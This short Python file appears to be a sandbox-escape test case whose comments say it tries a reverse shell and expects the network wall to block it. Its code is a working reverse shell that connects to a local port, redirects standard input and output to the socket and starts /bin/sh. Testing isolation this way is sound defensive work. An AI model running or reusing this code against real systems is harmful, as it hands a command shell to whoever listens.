# attack: reverse_shell
# threat: network
# tries: connect back and give whoever listens a shell
# wall: wasi_network
# native: network_namespace
# control: the listener sends a command and gets what the shell answered
# oracle: the listener of the host saw no connection
import os
import socket
import subprocess
import sys

print("begun", flush=True)
back = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
back.connect(("127.0.0.1", int(sys.argv[2])))
for fd in (0, 1, 2):
    os.dup2(back.fileno(), fd)
subprocess.call(["/bin/sh"])
